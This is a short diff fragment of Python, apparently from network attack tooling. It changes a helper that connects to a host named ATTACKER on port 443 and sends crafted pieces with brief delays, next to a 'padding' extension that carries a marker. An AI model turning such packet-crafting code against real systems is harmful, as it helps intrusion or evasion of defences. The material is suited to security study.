@@ -27,8 +27,7 @@ padding = lambda: extension(21, mark)  # where the marker rides
 def send(*pieces, port=443):
     s = socket.create_connection((ATTACKER, port)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     for piece in pieces: s.sendall(piece); time.sleep(0.01)
-    try: s.recv(100)
-    except OSError: pass
+    drain(s)
 """
 
 
